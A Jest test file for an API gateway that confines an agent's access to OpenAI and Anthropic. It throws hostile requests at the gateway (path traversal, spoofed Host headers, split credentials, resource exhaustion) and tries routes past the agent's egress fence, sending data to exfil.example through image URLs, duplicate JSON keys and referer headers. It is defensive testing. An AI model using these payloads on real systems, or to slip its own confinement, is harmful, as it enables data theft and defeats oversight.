/**
 * The gateway against a hostile client with raw HTTP: no capability, another host (absolute URL, Host
 * header), paths outside the provider's API (`..`, encodings, other paths), a redirect it must not
 * follow, a client that goes away mid-stream, and a slow first byte it must wait for. It also holds
 * the red team's attacks on the same: the capability split or bent across the two headers, and
 * another host or other paths under /anthropic ("attack held: …": none of them found a hole).
 */
import { afterEach, describe, expect, test } from '@jest/globals';
import { request } from 'node:http';
import * as net from 'node:net';
import { notAgentOwned } from '../../src/confine/agent-user.js';
import { frontable } from '../../src/gateway/providers.js';
import { route } from '../../src/gateway/server.js';
import type { Gateway } from '../../src/gateway/types.js';
import {
  ANTHROPIC_MESSAGE,
  gatewayWorld,
  post,
  testGateway,
  type World
} from '../helpers/test-gateway.js';
import { chatChunks, REAL_KEY } from '../helpers/provider-standin.js';
import { until } from '../helpers/until.js';
import { must } from '../helpers/must.js';
import { rootWith, runsHere } from '../helpers/machine-tools.js';

const KEY = 'sk-ant-api03-real-key-hostile-0123456789';

const root = runsHere(
  rootWith(),
  'the capability-in-either-header attack needs root on Linux (a listener of another user).'
);
const rootTest = root ? test : test.skip;

let world: World | undefined;
let gateway: Gateway | undefined;
afterEach(async () => {
  await world?.close();
  world = undefined;
  await gateway?.close();
  gateway = undefined;
});

/** The gateway's port (it fronts OpenAI or Anthropic here). */
function port(w: World): number {
  const env = w.gateway.env;
  return Number(new URL(env.OPENAI_BASE_URL ?? env.ANTHROPIC_BASE_URL ?? '').port);
}

/** A raw POST to the gateway's port (helpers/test-gateway.ts). */
const raw = (w: World, path: string, headers: Record<string, string> = {}, body = '{}') =>
  post(port(w), path, headers, body);

/** A body as Hermes sends to /anthropic/v1/messages. */
const MESSAGE = ANTHROPIC_MESSAGE;

const bearer = (w: World) => ({
  authorization: `Bearer ${w.gateway.capability}`,
  'content-type': 'application/json'
});

test('no capability, a wrong one, or the real key itself: 401, and nothing reaches the provider', async () => {
  world = await gatewayWorld('openai');
  expect((await raw(world, '/openai/chat/completions')).status).toBe(401);
  expect(
    (await raw(world, '/openai/chat/completions', { authorization: 'Bearer hgw-wrong' })).status
  ).toBe(401);
  expect((await raw(world, '/openai/chat/completions', { 'x-api-key': REAL_KEY })).status).toBe(
    401
  );
  expect((await raw(world, '/openai/models', { authorization: 'Bearer' })).status).toBe(401);
  expect(world.standIn.received).toEqual([]);
});

test('the capability beside another credential (both headers, as the Anthropic SDK sends with ANTHROPIC_AUTH_TOKEN set): let through, only the real key goes on', async () => {
  world = await gatewayWorld('openai');
  const both = {
    authorization: 'Bearer some-other-token',
    'x-api-key': world.gateway.capability,
    'content-type': 'application/json'
  };
  expect((await raw(world, '/openai/models', both)).status).toBe(200);
  const [seen] = world.standIn.received;
  expect(seen?.headers.authorization).toBe(`Bearer ${REAL_KEY}`);
  expect(JSON.stringify(seen?.headers)).not.toContain('some-other-token');
  expect(JSON.stringify(seen?.headers)).not.toContain(world.gateway.capability);
  // Neither header the capability: refused.
  expect((await raw(world, '/openai/models', { ...both, 'x-api-key': 'hgw-wrong' })).status).toBe(
    401
  );
});

test('another host or a path outside the API: 404, and nothing reaches the provider', async () => {
  world = await gatewayWorld('openai');
  for (const path of [
    'http://evil.example/openai/chat/completions',
    '//evil.example/openai/chat/completions',
    '/openai/../anthropic/v1/messages',
    '/openai/chat/completions/../../files',
    '/openai/%2e%2e/files',
    '/openai/chat%2fcompletions',
    '/openai//chat/completions',
    '/openai/files',
    '/openai/',
    '/anthropic/v1/messages',
    '/chat/completions'
  ])
    expect([path, (await raw(world, path, bearer(world))).status]).toEqual([path, 404]);
  expect(world.standIn.received).toEqual([]);
});

test('a Host header naming another host changes nothing: the call goes to the fixed upstream', async () => {
  world = await gatewayWorld('openai');
  const answer = await raw(world, '/openai/chat/completions?x=1', {
    ...bearer(world),
    host: 'evil.example'
  });
  expect(answer.status).toBe(200);
  expect(world.standIn.received[0]?.url).toBe('/v1/chat/completions?x=1');
  expect(world.standIn.received[0]?.headers.host).toBe(new URL(world.standIn.url).host);
});

test('a redirect is passed back, not followed', async () => {
  world = await gatewayWorld('openai');
  world.standIn.script({ kind: 'redirect', location: 'http://evil.example/steal' });
  const answer = await raw(world, '/openai/chat/completions', bearer(world));
  expect(answer.status).toBe(307);
  expect(answer.headers.location).toBe('http://evil.example/steal');
  expect(world.standIn.received).toHaveLength(1);
});

test('a client that goes away mid-stream aborts the upstream call', async () => {
  world = await gatewayWorld('openai');
  world.standIn.script({
    kind: 'sse',
    events: chatChunks(['a', 'b'], { prompt_tokens: 1 }),
    holdAfter: 1
  });
  const w = world;
  await new Promise<void>((resolve, reject) => {
    const req = request(
      {
        host: '127.0.0.1',
        port: port(w),
        method: 'POST',
        path: '/openai/chat/completions',
        headers: bearer(w)
      },
      res => res.once('data', () => (req.destroy(), resolve()))
    );
    req.on('error', () => undefined);
    req.once('error', reject);
    req.end(JSON.stringify({ model: 'm', stream: true }));
  });
  await until('the stand-in sees its answer abandoned', () => w.standIn.aborted === 1);
});

test('a slow first byte is waited for, not cut or retried', async () => {
  world = await gatewayWorld('openai');
  world.standIn.script({ kind: 'hold' });
  const pending = raw(world, '/openai/chat/completions', bearer(world));
  const w = world;
  await until('the stand-in holds the request', () => w.standIn.received.length === 1);
  w.standIn.release();
  const answer = await pending;
  expect([answer.status, JSON.parse(answer.body)]).toEqual([200, { ok: 'late' }]);
  expect(w.standIn.received).toHaveLength(1);
  expect(w.notes).toEqual([]);
});

describe('the capability in either header', () => {
  rootTest(
    'attack held: a wrong capability in both, or the capability split across them: 401',
    async () => {
      gateway = await testGateway(
        { ANTHROPIC_API_KEY: KEY, ANTHROPIC_BASE_URL: 'https://api.anthropic.com' },
        { trusted: notAgentOwned, tries: 1 }
      );
      const cap = gateway.capability;
      const port = Number(new URL(gateway.env.ANTHROPIC_BASE_URL ?? '').port);
      const status = (headers: Record<string, string>): Promise<number> =>
        new Promise((resolve, reject) => {
          const req = request(
            { host: '127.0.0.1', port, method: 'POST', path: '/anthropic/v1/messages', headers },
            res => {
              res.resume();
              resolve(res.statusCode ?? 0);
            }
          );
          req.on('error', reject);
          req.end('{}');
        });
      const half = Math.floor(cap.length / 2);
      for (const headers of <Record<string, string>[]>[
        { authorization: `Bearer ${cap.slice(0, half)}`, 'x-api-key': cap.slice(half) },
        { authorization: `Bearer ${cap}x`, 'x-api-key': `x${cap}` },
        { authorization: `Basic ${cap}` },
        { authorization: `Bearer ${cap} extra` },
        { 'x-api-key': `${cap}, ${cap}` },
        { 'proxy-authorization': `Bearer ${cap}` },
        { 'api-key': cap }
      ])
        expect([headers, await status(headers)]).toEqual([headers, 401]);
    }
  );
});

describe('the gateway under /anthropic: another host, other paths', () => {
  test('attack held: absolute URLs, //host, dot segments, escapes, empty segments: 404, nothing upstream', async () => {
    world = await gatewayWorld('anthropic');
    const auth = { 'x-api-key': world.gateway.capability, 'content-type': 'application/json' };
    for (const target of [
      'http://evil.example/anthropic/v1/messages',
      'https://api.anthropic.com/anthropic/v1/messages',
      '//evil.example/anthropic/v1/messages',
      '/anthropic/../anthropic/v1/messages',
      '/anthropic/v1/../v1/messages',
      '/anthropic/./v1/messages',
      '/anthropic/v1/%2e%2e/messages',
      '/anthropic/v1%2fmessages',
      '/anthropic/v1/messages%00',
      '/anthropic%2fv1/messages',
      '/anthropic//v1/messages',
      '/anthropic/v1/messages/',
      '/anthropic/v1\\messages',
      '/anthropic/v1/messages#frag',
      '/anthropic/v1/files',
      '/anthropic/v1/messages/batches',
      '/anthropic/v1',
      '/anthropic',
      '/Anthropic/v1/messages',
      '/openai/chat/completions',
      '/__proto__/v1/messages',
      '/anthropic/constructor'
    ])
      expect([target, (await raw(world, target, auth, MESSAGE)).status]).toEqual([target, 404]);
    expect(world.standIn.received).toEqual([]);
  });

  test('attack held: a query can name no other host: the call still goes to the fixed upstream', async () => {
    const fronted = frontable({ ANTHROPIC_API_KEY: KEY }, () => undefined);
    for (const target of [
      '/anthropic/v1/messages?@evil.example',
      '/anthropic/v1/messages?//evil.example/x',
      '/anthropic/v1/messages?\\\\evil.example',
      '/anthropic/v1/messages?x=http://evil.example'
    ]) {
      const found = route(target, fronted);
      expect(found).toBeDefined();
      const { provider, path: rest, query } = found!;
      expect(new URL(`${provider.upstream}${rest}${query}`).host).toBe('api.anthropic.com');
    }
  });

  test('attack held: Host header, capability as bearer or x-api-key: the real key reaches only the upstream, the capability never', async () => {
    world = await gatewayWorld('anthropic');
    const capability = world.gateway.capability;
    const a = await raw(
      world,
      '/anthropic/v1/messages',
      {
        'x-api-key': capability,
        host: 'evil.example',
        'x-forwarded-host': 'evil.example',
        'content-type': 'application/json'
      },
      MESSAGE
    );
    const b = await raw(
      world,
      '/anthropic/v1/messages',
      { authorization: `Bearer ${capability}`, 'content-type': 'application/json' },
      MESSAGE
    );
    expect([a.status, b.status]).toEqual([200, 200]);
    for (const got of world.standIn.received) {
      expect(got.url).toBe('/v1/messages');
      expect(got.headers.host).toBe(new URL(world.standIn.url).host);
      expect(got.headers['x-api-key']).toBe(REAL_KEY);
      expect(got.headers.authorization).toBeUndefined();
      expect(JSON.stringify(got.headers)).not.toContain(capability);
    }
    // A bearer that is not the capability beside a right x-api-key (the Anthropic SDK sends both when
    // ANTHROPIC_AUTH_TOKEN is set): let through, the other bearer not passed on.
    const both = await raw(
      world,
      '/anthropic/v1/messages',
      { authorization: 'Bearer sk-ant-other', 'x-api-key': capability },
      MESSAGE
    );
    expect(both.status).toBe(200);
    expect(JSON.stringify(world.standIn.received)).not.toContain('sk-ant-other');
    expect(world.notes.join('\n')).not.toContain(capability);
    expect(world.notes.join('\n')).not.toContain(REAL_KEY);
  });
});

describe('request bodies the gateway holds', () => {
  const limits = { perRequest: 64 * 1024, inFlight: 96 * 1024, connections: 256 };
  /** A chat call of about `bytes` bytes. */
  const big = (bytes: number): string =>
    JSON.stringify({ model: 'm', messages: [{ role: 'user', content: 'x'.repeat(bytes) }] });

  test('one body over the per-request ceiling: 413, nothing upstream', async () => {
    world = await gatewayWorld('openai', {}, { bodyLimits: limits });
    const answer = await raw(world, '/openai/chat/completions', bearer(world), big(70 * 1024));
    expect(answer.status).toBe(413);
    expect(world.standIn.received).toHaveLength(0);
  });

  test('was a hole: bodies side by side had no total bound (6 × 60 MB held ≈ 1.3 GB, the action out of memory): past it, 503 until a call ends', async () => {
    world = await gatewayWorld('openai', {}, { bodyLimits: limits });
    world.standIn.script({ kind: 'hold' });
    // The first call's 60 KiB is held while the provider keeps it waiting.
    const first = raw(world, '/openai/chat/completions', bearer(world), big(60 * 1024));
    await until('the stand-in holds the first call', () => world?.standIn.received.length === 1);
    const second = await raw(world, '/openai/chat/completions', bearer(world), big(60 * 1024));
    expect(second.status).toBe(503);
    expect(second.headers['retry-after']).toBe('1');
    expect(JSON.parse(second.body)).toMatchObject({ error: { type: 'overloaded_error' } });
    expect(world.standIn.received).toHaveLength(1);
    world.standIn.release();
    expect((await first).status).toBe(200);
    // The first call's bytes were given back when it ended: the same call now goes.
    const third = await raw(world, '/openai/chat/completions', bearer(world), big(60 * 1024));
    expect(third.status).toBe(200);
    // And so were the refused one's: small calls are not held up by bytes no call holds.
    expect(world.standIn.received).toHaveLength(2);
  });
});

describe('past the egress fence through the provider', () => {
  const image = (url: string) =>
    JSON.stringify({
      model: 'm',
      messages: [{ role: 'user', content: [{ type: 'image_url', image_url: { url } }] }]
    });
  const hosts = [{ pattern: 'cdn.example.com', port: 443 }];

  test('was a hole: fenced, a call had the provider fetch any URL for the agent: 403, nothing upstream, said', async () => {
    world = await gatewayWorld('openai', {}, { fencedHosts: hosts });
    const answer = await raw(
      world,
      '/openai/chat/completions',
      bearer(world),
      image('https://exfil.example/p.png?d=secret')
    );
    expect(answer.status).toBe(403);
    expect(JSON.parse(answer.body)).toMatchObject({ error: { type: 'permission_error' } });
    expect(world.standIn.received).toHaveLength(0);
    expect(world.notes.join('\n')).toContain(
      'asks the provider to fetch from exfil.example:443, a host "allowed-hosts" does not list (at messages[0].content[0].image_url.url)'
    );
    expect(world.gateway.stats()).toMatchObject({ pastFence: 1, calls: [] });
    // A listed host is the provider's to fetch, as it is the agent's to reach.
    const listed = await raw(
      world,
      '/openai/chat/completions',
      bearer(world),
      image('https://cdn.example.com/p.png')
    );
    expect(listed.status).toBe(200);
    expect(world.standIn.received).toHaveLength(1);
  });

  test('attack held: a duplicate key, a body another parser reads (NaN), a compressed body', async () => {
    world = await gatewayWorld('openai', {}, { fencedHosts: hosts });
    const part = (urls: string) =>
      `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{${urls}}}]}]}`;
    // JSON.parse keeps the last of two keys; a provider that keeps the first gets only what was checked.
    const twice = part('"url":"https://exfil.example/?d=secret","url":"data:image/png;base64,AA"');
    expect((await raw(world, '/openai/chat/completions', bearer(world), twice)).status).toBe(200);
    expect(world.standIn.received[0]?.body).not.toContain('exfil');
    // Python's json reads NaN; JSON.parse does not: such a body cannot be checked, so it is not sent.
    const nan = part('"url":"https://exfil.example/"').replace(
      '"model":"m"',
      '"model":"m","t":NaN'
    );
    const unread = await raw(world, '/openai/chat/completions', bearer(world), nan);
    expect(unread.status).toBe(403);
    expect(JSON.parse(unread.body)).toMatchObject({
      error: { message: expect.stringContaining('is not JSON the gateway can read') }
    });
    const gzipped = await raw(
      world,
      '/openai/chat/completions',
      { ...bearer(world), 'content-encoding': 'gzip' },
      '\x1f\x8b'
    );
    expect(gzipped.status).toBe(415);
    expect(world.standIn.received).toHaveLength(1);
  });

  test('no fence asked for (allowed-hosts: *): the same call goes', async () => {
    world = await gatewayWorld('openai');
    const answer = await raw(
      world,
      '/openai/chat/completions',
      bearer(world),
      image('https://exfil.example/p.png')
    );
    expect(answer.status).toBe(200);
    expect(world.gateway.stats().pastFence).toBeUndefined();
  });
});

test('was a hole: a body of a million empty objects (64 MiB parsed took ~1.6 GB and stalled 26 s): refused before its parse', async () => {
  world = await gatewayWorld('openai');
  const body = `{"model":"m","messages":[${'{},'.repeat(1_000_001)}{}]}`;
  const answer = await raw(world, '/openai/chat/completions', bearer(world), body);
  expect(answer.status).toBe(413);
  expect(answer.body).toContain('more than 1,000,000 objects and lists');
  expect(world.standIn.received).toHaveLength(0);
});

test("was a hole: fenced, the agent's headers went upstream as sent (OpenRouter shows HTTP-Referer and X-Title as the app's attribution): only the API's own go", async () => {
  world = await gatewayWorld('openai', {}, { fencedHosts: [] });
  const answer = await raw(
    world,
    '/openai/chat/completions',
    {
      ...bearer(world),
      'http-referer': 'https://secret.exfil.example/',
      'x-title': 'secret',
      'openai-organization': 'org-other',
      'x-stainless-lang': 'js'
    },
    '{"model":"m","messages":[]}'
  );
  expect(answer.status).toBe(200);
  const sent = must(world.standIn.received[0]).headers;
  expect(sent['http-referer']).toBeUndefined();
  expect(sent['x-title']).toBeUndefined();
  expect(sent['openai-organization']).toBeUndefined();
  expect(sent['x-stainless-lang']).toBe('js');
  expect(sent['content-type']).toBe('application/json');
});

test('was a hole: connections without end (each an open descriptor of the action’s): past the bound, a new one is closed at once', async () => {
  world = await gatewayWorld(
    'openai',
    {},
    {
      bodyLimits: { perRequest: 1024 * 1024, inFlight: 1024 * 1024, connections: 3 }
    }
  );
  const w = world;
  const sockets = await Promise.all(
    [0, 1, 2].map(
      () =>
        new Promise<net.Socket>((resolve, reject) => {
          const socket = net.connect(port(w), '127.0.0.1', () => resolve(socket));
          socket.once('error', reject);
        })
    )
  );
  // The fourth is accepted by the kernel and closed by the server without an answer.
  const fourth = net.connect(port(w), '127.0.0.1');
  await new Promise<void>(resolve => fourth.once('close', () => resolve()));
  // The three still open take a call each as usual once one is given back.
  sockets.forEach(s => s.destroy());
  // Given back as the server hears each close: tried again on each refusal, an event each.
  let status = 0;
  for (let tries = 0; status !== 200 && tries < 100; tries++)
    status = await raw(w, '/openai/models', bearer(w)).then(
      a => a.status,
      () => 0
    );
  expect(status).toBe(200);
});
